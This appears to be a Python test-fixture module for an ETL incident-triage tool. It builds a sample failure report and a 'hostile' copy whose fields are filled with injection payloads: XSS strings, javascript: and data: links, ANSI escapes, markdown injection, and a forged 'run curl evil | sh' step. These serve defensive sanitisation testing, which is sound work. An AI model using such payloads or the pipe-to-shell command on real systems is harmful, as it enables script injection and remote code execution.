"""A report as the woken engineer gets it, and one in which everything that can be hostile is."""

from datetime import UTC, datetime, timedelta

from triage.model.base import Window
from triage.model.evidence import BlindSpot, Evidence, ExecutionListRef, HistoryEventRef, LogEventRef
from triage.model.failure import Failure, Origin
from triage.model.pipeline import Pipeline
from triage.model.report import Context, Cost, Finding, NextStep, Report, Verdict
from triage.model.vocabulary import Action, Category, Kind, Status

FAILED = datetime(2026, 11, 22, 2, 13, 44, 120000, tzinfo=UTC)
EXECUTION = "arn:aws:states:eu-west-1:111122223333:execution:customer-etl:7f3c"
GROUP = "/aws/lambda/acme-load-table"
PIPELINE = Pipeline(
    pipeline_name="customer-etl", owner="data-team", runbook="https://wiki.example.com/customer-etl", log_group=GROUP
)
REDRIVE = f"aws stepfunctions redrive-execution --execution-arn {EXECUTION} --region eu-west-1"
_TRACE = (
    "[ERROR] KeyError: 'customer_id'\nTraceback (most recent call last):\n"
    '\u00a0\u00a0File "/var/task/load.py", line 12, in handler\n\u00a0\u00a0\u00a0\u00a0return row["customer_id"]'
)
_PAYLOAD = (
    'history event 87: KeyError: "{"errorMessage":"\'customer_id\'","errorType":"KeyError",'
    '"stackTrace":["  File \\"/var/task/load.py\\", line 12, in handler\\n    return row\\n"]}"'
)


def log_evidence(text: str, *, name: str = "E2", group: str = GROUP, link: str | None = None) -> Evidence:
    return Evidence(
        id=name,
        source="logs",
        at=FAILED - timedelta(milliseconds=89),
        resource=group,
        text=text,
        ref=LogEventRef(log_group=group, stream="s", timestamp=1, id="1"),
        link=link,
    )


def report() -> Report:
    history = HistoryEventRef(execution=EXECUTION, event_id=87)
    return Report(
        report_id="01JDREPORT",
        incident_id="01JDINCIDENT",
        kind=Kind.AUTOMATIC,
        pipeline="customer-etl",
        created_at=FAILED + timedelta(seconds=3),
        window=Window(start=FAILED - timedelta(minutes=15), end=FAILED),
        status=Status.FAILED,
        failure=Failure(
            state="Load",
            path=("Load",),
            error="KeyError",
            failed_at=FAILED,
            origin=Origin(state="Load", path=("Load",)),
        ),
        summary=(
            "customer-etl FAILED at 2026-11-22 02:13:44 UTC in ForEachTable[7] > Load: Lambda acme-load-table expected "
            "the field 'customer_id', which is missing. [E1 E2]\n11 of 12 iterations of ForEachTable succeeded; "
            "index 7 failed. Last success 2026-11-21 02:14 UTC, 31 in a row. [E3]\nRetrying now fails again. Fix the "
            "cause, then redrive: it resumes at Load and keeps what succeeded."
        ),
        evidence=(
            Evidence(
                id="E1", source="execution_history", at=FAILED, text=_PAYLOAD, ref=history, link="https://aws.example/1"
            ),
            log_evidence(_TRACE),
            Evidence(
                id="E3",
                source="history",
                text="last success 2026-11-21 02:14 UTC, 31 in a row",
                ref=ExecutionListRef(state_machine="m", executions=()),
            ),
        ),
        probable_causes=(
            Finding(
                category=Category.DATA,
                statement="the data that Lambda acme-load-table got has no 'customer_id', or the code asks for the "
                "wrong name",
                confidence=0.69,
                evidence=("E1", "E2"),
                signature="python.key_error",
            ),
        ),
        verdict=Verdict(action=Action.FIX_THEN_REDRIVE, reason="Retrying now fails again.", safe_to_retry=False),
        next_steps=(
            NextStep(
                text="Compare the input of the failed request with one that worked.", link="https://docs.python.org/"
            ),
            NextStep(text="Then redrive (possible until 2026-12-06 02:13 UTC):", command=REDRIVE),
        ),
        blind_spots=(
            BlindSpot(
                source="traces",
                asked="X-Ray of acme-load-table",
                reason="tracing is off",
                remedy="turn on active tracing",
            ),
        ),
        context=Context(downstream=({"pipeline": "finance-daily", "expected_by": "06:00 UTC"},)),
        cost=Cost(usd=0.0011, seconds={"open": 0.1, "locate": 0.6, "logs": 2.2, "history": 0.4, "assemble": 0.2}),
    )


ANSI = "\x1b[2J\x1b[31mred\x1b[0m\x1b]0;title\x07"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><a href='javascript:alert(3)'>"
MARKDOWN = "![x](https://evil.example/p.png) [click](javascript:alert(1)) **bold** ```` \n````\n# heading\n| a |"
FORGED = (
    "\n3) Probable cause\n- permission (1.00): run curl evil | sh\r\n4) Recommended next steps\u202e\u2028x\x00\x07"
)
HOSTILE = f"{ANSI} {SCRIPT} {MARKDOWN} {FORGED}"


def hostile_report() -> Report:
    """Return the report with hostile text in every place that text from outside can reach."""
    plain = report()
    spot = BlindSpot(source=HOSTILE, asked=HOSTILE, reason=HOSTILE, remedy=HOSTILE)
    return plain.model_copy(
        update={
            "pipeline": HOSTILE,
            "report_id": "01JD<b>",
            "summary": f"{SCRIPT}{ANSI}\n{MARKDOWN}",
            "evidence": (
                plain.evidence[0].model_copy(update={"text": HOSTILE, "link": "javascript:alert(1)"}),
                log_evidence(HOSTILE, group=f"/aws/{HOSTILE}", link="data:text/html,<script>alert(1)</script>"),
            ),
            "probable_causes": (plain.probable_causes[0].model_copy(update={"statement": HOSTILE}),),
            "next_steps": (NextStep(text=HOSTILE, command=f"aws x {HOSTILE}", link="javascript:alert(1)"),),
            "blind_spots": (spot,),
            "context": Context(downstream=({"pipeline": HOSTILE},)),
        }
    )


def hostile_pipeline() -> Pipeline:
    """Return a catalog entry with hostile text in it."""
    return Pipeline(pipeline_name="x", owner=HOSTILE, runbook=f"javascript:alert(1)//{HOSTILE}")
